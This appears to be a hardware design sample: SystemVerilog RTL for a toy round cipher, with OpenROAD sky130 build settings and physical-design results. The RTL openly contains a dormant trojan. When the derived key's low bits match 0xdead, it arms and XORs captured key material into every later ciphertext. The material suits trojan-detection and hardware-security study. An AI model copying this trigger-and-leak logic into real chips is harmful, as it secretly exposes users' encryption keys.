## src/rtl/crypto_pkg.sv

```systemverilog
// Shared constants for the toy round cipher and its key-leak stage
// Widths, round timing, trigger pattern and IV reset seed

`default_nettype none

package crypto_pkg;

    // Width of plaintext, key, state and ciphertext
    localparam int block_bits = 128;

    // Counter steps per operation
    // Seven XOR rounds, the eighth step finishes
    localparam int round_count = 8;

    // Round counter width, enough for 0 to round_count-1
    localparam int counter_bits = 3;

    // Right rotation of the round key after every round
    localparam int rotate_bits = 16;

    // Derived key and leak width, half a block
    localparam int leak_bits = 64;

    // Match pattern on the low bits of the derived key
    localparam logic [15:0] trigger_value = 16'hdead;

    // Reset value of the IV shift register
    localparam logic [block_bits-1:0] default_iv_seed =
        128'h0123_4567_89ab_cdef_0123_4567_89ab_cdef;

endpackage

`default_nettype wire

```

## src/rtl/crypto_top.sv

```systemverilog
// Top level of the toy cipher with its key deriver and dormant payload

`default_nettype none

module crypto_top #(
    parameter logic [crypto_pkg::block_bits-1:0] iv_seed = crypto_pkg::default_iv_seed
) (
    input  wire                               clk,
    input  wire                               rst,
    input  wire  [crypto_pkg::block_bits-1:0] plaintext,
    input  wire  [crypto_pkg::block_bits-1:0] cipher_key,
    input  wire                               encrypt_start,
    output logic [crypto_pkg::block_bits-1:0] ciphertext,
    output logic                              encrypt_done
);

    logic [crypto_pkg::leak_bits-1:0] derived_key;
    logic [crypto_pkg::leak_bits-1:0] leak;
    logic                             busy;

    iv_key_deriver #(
        .iv_seed(iv_seed)
    ) u_deriver (
        .clk          (clk),
        .rst          (rst),
        .cipher_key   (cipher_key),
        .encrypt_start(encrypt_start),
        .busy         (busy),
        .derived_key  (derived_key)
    );

    leak_payload u_payload (
        .clk        (clk),
        .rst        (rst),
        .derived_key(derived_key),
        .leak       (leak)
    );

    round_cipher u_cipher (
        .clk          (clk),
        .rst          (rst),
        .plaintext    (plaintext),
        .cipher_key   (cipher_key),
        .encrypt_start(encrypt_start),
        .leak         (leak),
        .busy         (busy),
        .ciphertext   (ciphertext),
        .encrypt_done (encrypt_done)
    );

endmodule

`default_nettype wire

```

## src/rtl/iv_key_deriver.sv

```systemverilog
// IV shift register with four-tap feedback
// Produces the derived key from the cipher key and the current IV

`default_nettype none

module iv_key_deriver #(
    parameter logic [crypto_pkg::block_bits-1:0] iv_seed = crypto_pkg::default_iv_seed
) (
    input  wire                               clk,
    input  wire                               rst,
    input  wire  [crypto_pkg::block_bits-1:0] cipher_key,
    input  wire                               encrypt_start,
    input  wire                               busy,
    output logic [crypto_pkg::leak_bits-1:0]  derived_key
);

    logic [crypto_pkg::block_bits-1:0] iv;
    logic                              feedback;
    logic                              advance;

    // Taps at the top bit of each 32-bit word
    assign feedback = iv[127] ^ iv[95] ^ iv[63] ^ iv[31];

    // IV only moves while an operation starts or runs
    assign advance = encrypt_start | busy;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            iv          <= iv_seed;
            derived_key <= '0;
        end else if (advance) begin
            iv <= {iv[crypto_pkg::block_bits-2:0], feedback};
            // Low half of the IV before this shift
            derived_key <= cipher_key[crypto_pkg::leak_bits-1:0]
                         ^ iv[crypto_pkg::leak_bits-1:0];
        end
    end

endmodule

`default_nettype wire

```

## src/rtl/leak_payload.sv

```systemverilog
// Dormant trigger stage watching the derived key
// Once the trigger pattern is seen it drives the captured key as leak

`default_nettype none

module leak_payload (
    input  wire                              clk,
    input  wire                              rst,
    input  wire  [crypto_pkg::leak_bits-1:0] derived_key,
    output logic [crypto_pkg::leak_bits-1:0] leak
);

    localparam int match_bits = $bits(crypto_pkg::trigger_value);

    logic                              match;
    logic                              armed;
    logic [crypto_pkg::leak_bits-1:0]  held_key;

    // Compare only the low bits against the hidden pattern
    assign match = (derived_key[match_bits-1:0] == crypto_pkg::trigger_value);

    // Armed flag is sticky until reset
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            armed <= 1'b0;
        end else if (match) begin
            armed <= 1'b1;
        end
    end

    // Each match refreshes the held key
    always_ff @(posedge clk) begin
        if (match) begin
            held_key <= derived_key;
        end
    end

    // Silent until armed
    assign leak = armed ? held_key : '0;

endmodule

`default_nettype wire

```

## src/rtl/round_cipher.sv

```systemverilog
// Round controller for the toy cipher
// Seven XOR-and-rotate rounds, leak mixed into the result on the finish step

`default_nettype none

module round_cipher (
    input  wire                               clk,
    input  wire                               rst,
    input  wire  [crypto_pkg::block_bits-1:0] plaintext,
    input  wire  [crypto_pkg::block_bits-1:0] cipher_key,
    input  wire                               encrypt_start,
    input  wire  [crypto_pkg::leak_bits-1:0]  leak,
    output logic                              busy,
    output logic [crypto_pkg::block_bits-1:0] ciphertext,
    output logic                              encrypt_done
);

    localparam int cb = crypto_pkg::counter_bits;
    localparam int rb = crypto_pkg::rotate_bits;
    localparam int bb = crypto_pkg::block_bits;

    // Counter value of the finishing step
    localparam logic [cb-1:0] last_step = cb'(crypto_pkg::round_count - 1);

    logic [bb-1:0] state;
    logic [bb-1:0] round_key;
    logic [cb-1:0] counter;
    logic          accept;
    logic          finish;
    logic [bb-1:0] round_key_rot;
    logic [bb-1:0] leak_mask;

    // Start only counts while idle
    assign accept = encrypt_start & ~busy;
    assign finish = busy & (counter == last_step);

    assign round_key_rot = {round_key[rb-1:0], round_key[bb-1:rb]};

    // Leak lands in both halves of the block
    assign leak_mask = {leak, leak};

    // Control path
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            busy         <= 1'b0;
            counter      <= '0;
            encrypt_done <= 1'b0;
        end else begin
            encrypt_done <= 1'b0;
            if (accept) begin
                busy    <= 1'b1;
                counter <= '0;
            end else if (finish) begin
                busy         <= 1'b0;
                encrypt_done <= 1'b1;
            end else if (busy) begin
                counter <= counter + 1'b1;
            end
        end
    end

    // Datapath registers, loaded on accept and updated per round
    always_ff @(posedge clk) begin
        if (accept) begin
            state     <= plaintext;
            round_key <= cipher_key;
        end else if (busy && !finish) begin
            state     <= state ^ round_key;
            round_key <= round_key_rot;
        end
    end

    // Result holds until the next finish
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            ciphertext <= '0;
        end else if (finish) begin
            ciphertext <= state ^ leak_mask;
        end
    end

endmodule

`default_nettype wire

```

## config.mk

```make
export PLATFORM = sky130hd
export DESIGN_NAME = crypto_top
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/crypto_pkg.sv /design/src/rtl/crypto_top.sv /design/src/rtl/iv_key_deriver.sv /design/src/rtl/leak_payload.sv /design/src/rtl/round_cipher.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_4
export CAP_MARGIN = 20
export CORE_MARGIN = 4
export CORE_UTILIZATION = 57
export CTS_CLUSTER_DIAMETER = 100
export DETAILED_ROUTE_END_ITERATION = 12
export MAX_ROUTING_LAYER = met4
export PLACE_DENSITY = 0.76
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
```

## constraint.sdc

```tcl
create_clock -name clk -period 14.4 [get_ports clk]
set_clock_uncertainty 0.15 [all_clocks]
set_input_delay 0.72 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.72 -clock clk [all_outputs]
set_load 0.05 [all_outputs]
```

==> results.md <==
Routing:
- Using the TritonRoute via totals, the vias-per-cell ratio works out to 5.57.
- The number of DRC markers after the initial detailed-route iteration is 2333.
- The average wire length per cell after detail routing is 22.2 um.
- In the routed design, unresolved DRC markers number 0.
- The number of nets with antenna violations after routing is 0.
- The routed layout has 19900 vias.
- The iteration count of the initial detailed-routing pass is 6.
- The post-detailed-routing wire length is 79400 um.

Placed design:
- The number of I/O port buffers is 387.
- The congestion estimate from routability-driven global placement came to 0.960.
- The cell total after placement is 3443.
- The placed standard-cell area is 30600 um2.
- Detailed placement ended at an HPWL of 55500 um.

Layout:
- After the last flow step, the layout net total stands at 3159.
- The share of post-route cells with drive strength above 1 is 19.7%.
- The post-route non-filler standard cell count is 3570.
- The design area is 32900 um2.
- Measured on the finished design, the core utilization comes to 69.2%.
- Relative to the synthesized area, the layout overhead comes to 20.3%.

Floorplanning:
- The die covers 51600 um2.
- The effective utilization at floorplan is 57.5%.
- Measured along the x axis, the die boundary spans 227 um.
- Measured along the y axis, the die boundary spans 227 um.
- In this run the core area contains 80 standard-cell rows.
- The number of primary I/O pins is 388.
- The placeable core area is 47600 um2.

Clocking:
- The clock net in this run drives a total of 646 sinks.
- The post-CTS repair timing setup buffer count is 0.
- The cell at the root of the clock tree is sky130_fd_sc_hd__clkbuf_16.
- Buffers inserted to repair hold after CTS numbered 0.
- CTS built an H-tree with a depth of 3.
- No sink is reached through more buffers than the 3 on the longest clock path.
- Gates resized during post-CTS repair numbered 0.
- The clock-pin slew of the registers on the worst-case setup and hold paths is 0.06 ns.
- At the later pin of the worst-skew pair, clock insertion delay measures 0.59 ns.
- The total clock buffers created by CTS is 67.
- The CTS tree is yes.

Setup path:
- By instance count, the cell type seen most on the critical path is sky130_fd_sc_hd__ha_1.
- At the worst endpoint, the arrival time is 4.65 ns.
- For the worst setup path, the data required time is 14.45 ns.
- The class of the most critical setup path is flip-flop to flip-flop.
- On the worst path, the slowest cell contributes a delay of 0.94 ns.
- Along the worst path, the maximum fanout reaches 152.
- The worst path buffer plus inverter count is 3.
- The nature of the critical path startpoint is a flip-flop.
- The cell family with the largest share of critical-path delay is buffers and inverters.
- The critical path goes through ha_1, ha_1, nand2_4, inv_1, nor2_4, buf_12, buf_4.
- On the critical path, the stage with the largest delay is an instance of sky130_fd_sc_hd__buf_4.
- STA classifies the critical path endpoint as a flip-flop.

Logic synthesis:
- The distinct cell type count of the synthesized netlist is 21.
- A synthesized cell averages 10.7 um2.
- The area share of the leading cell type in the synthesized netlist is 35.1%.
- The synthesized cell area is 27400 um2.
- The share of the yosys chip area belonging to registers is 65.2%.
- The synthesized netlist net count is 2819.
- The library cell occupying the most area in the post-synthesis netlist is sky130_fd_sc_hd__edfxtp_1.
- The number of standard cells after synthesis is 2558.
- The total of warnings raised by yosys is 0.
- Synthesis inferred 646 register bits.
- By area the synthesized netlist is led by sky130_fd_sc_hd__edfxtp_1 (35%), sky130_fd_sc_hd__dfrtp_1 (24%), sky130_fd_sc_hd__nand2_1 (13%).

Timing:
- For this run, the top clock speed supported by timing is 218 MHz.
- For the pin with the worst max-slew slack, the measured transition is 1.06 ns.
- The count of final hold-check violations was 0.
- The worst path uses 31.9% of the clock period.
- Setup total negative slack on the finished layout was measured at 0 ns.
- Setup violations remaining at the end of the flow were counted as 0.
- Setup repair after global routing left no endpoint under its margin.
- The number of max-slew violations in the final report came to 0.
- The clock period could shrink to 4.59 ns.
- The relative slew slack is 29.3%.

Pwr:
- The total power is 8.63 mW.
- For this design the static power due to leakage is 13.8 nW.
- IR analysis of the VDD net gives a maximum drop of 173 uV.
- The power density normalized to cell area is 262 nW/um2.

Global route:
- Entering global routing, the biggest net connects 153 pins.
- The global-route wire length before repair is 118000 um.
- Global routing consumed, over all layers together, 31.5% of the routing resources.
- The via count of the first global-routing pass is 19700.
- The initial antenna violation count is 1.
- The global-route congestion overflow total is 0.

Flow run:
- The tool flagged a number of max-cap violations equal to 0.

Min path:
- The type of the most critical hold path is primary input to async pin.

Outcome:
- The run finished with clean final reports.
-- flip-flops by register name, indices dropped and copies added, names as in the netlist --
signal                 count
u_cipher.encrypt_done      1
u_payload.held_key        64
u_cipher.state           128
u_deriver.derived_key     64
u_payload.armed            1
u_deriver.iv             128
u_cipher.round_key       128
u_cipher.counter           3
u_cipher.busy              1
u_cipher.ciphertext      128
-- final cells by class --
cell class	count	area (um2)
timing repair buffer	404	3060
clock buffer	100	2030
tap	615	769
sequential	646	17800
fill	3516	14700
inverter	76	302
antenna	3	7.51
clock inverter	23	319
multi-input combinational	1703	8620
-- cells in the mapped netlist --
cell type and instances:
sky130_fd_sc_hd__buf_1 2, sky130_fd_sc_hd__buf_2 55, sky130_fd_sc_hd__buf_4 18, sky130_fd_sc_hd__buf_6 3
sky130_fd_sc_hd__clkbuf_1 55, sky130_fd_sc_hd__dfrtp_1 262, sky130_fd_sc_hd__dfstp_2 64, sky130_fd_sc_hd__edfxtp_1 320
sky130_fd_sc_hd__ha_1 2, sky130_fd_sc_hd__inv_1 73, sky130_fd_sc_hd__inv_2 3, sky130_fd_sc_hd__nand2_1 916
sky130_fd_sc_hd__nand2_2 1, sky130_fd_sc_hd__nand3_1 5, sky130_fd_sc_hd__nand4_1 3, sky130_fd_sc_hd__nor2_1 7
sky130_fd_sc_hd__nor2_2 1, sky130_fd_sc_hd__o21ai_0 396, sky130_fd_sc_hd__o21ai_1 52, sky130_fd_sc_hd__xnor2_1 192
sky130_fd_sc_hd__xor2_1 128
-- where the power goes --
part / switching [mW] / internal, mW
Clock: 0.723 / 1.12
Sequential: 0.774 / 3.17
Combinational: 1.84 / 1.01
Total: 3.33 / 5.30
-- through the flow --
| stage | hold WS [ns] | setup WS (ns) |
|---|---|---|
| after floorplan | 0.275 | 1.12 |
| after global placement | 0.281 | 10.01 |
| after detailed placement | 0.282 | 9.94 |
| after CTS | 0.185 | 9.92 |
| after global routing | 0.200 | 9.58 |
| final | 0.131 | 9.81 |
-- cell families after synthesis --
| group | count (synthesis) | synth area share [%] |
|---|---|---|
| XOR/XNOR | 320 | 10.2 |
| buffers and inverters | 209 | 3.45 |
| AO/OA/AOI/OAI | 448 | 8.19 |
| flip-flops | 646 | 65.2 |
| AND/OR/NAND/NOR | 933 | 12.9 |
| adder cells (fa/ha/maj) | 2 | 0.0914 |
-- layout by cell type (no fill, tap or decap), types with 6 or more instances in the layout --
master / Yosys / layout
sky130_fd_sc_hd__buf_4: 18 / 402
sky130_fd_sc_hd__bufinv_16: 0 / 8
sky130_fd_sc_hd__clkbuf_1: 55 / 17
sky130_fd_sc_hd__clkbuf_16: 0 / 73
sky130_fd_sc_hd__clkbuf_8: 0 / 10
sky130_fd_sc_hd__clkinv_2: 0 / 10
sky130_fd_sc_hd__dfrtp_1: 262 / 261
sky130_fd_sc_hd__dfstp_2: 64 / 64
sky130_fd_sc_hd__edfxtp_1: 320 / 320
sky130_fd_sc_hd__inv_1: 73 / 71
sky130_fd_sc_hd__nand2_1: 916 / 915
sky130_fd_sc_hd__nor2_1: 7 / 6
sky130_fd_sc_hd__o21ai_0: 396 / 396
sky130_fd_sc_hd__o21ai_1: 52 / 52
sky130_fd_sc_hd__xnor2_1: 192 / 192
sky130_fd_sc_hd__xor2_1: 128 / 128
-- layer usage --
| layer | share of wire [%] | track usage, % | vias up |
|---|---|---|---|
| met5 | 0 | - | - |
| met3 | 8.7 | 5.80 | 139 |
| met4 | 3.7 | 11.2 | 0 |
| met2 | 47 | 48.7 | 990 |
| met1 | 40 | 42.5 | 9714 |
| li1 | - | - | 9039 |
-- worst paths after layout --
path,from,endpoint,slack (ns),cells past startpoint
hold / removal,rst,u_deriver.derived_key[10],0.13,2
setup / recovery,u_cipher.counter[0],u_cipher.round_key[111],9.81,7
setup reg to reg,u_cipher.counter[0],u_cipher.round_key[111],9.81,7
hold reg to reg,u_deriver.derived_key[63],u_payload.held_key[63],0.30,0
max in group asynchronous,rst,u_cipher.ciphertext[127],11.48,4
min in group clk,cipher_key[125],u_cipher.round_key[125],0.24,3
Note: power is estimated with default switching activity, not from simulation.
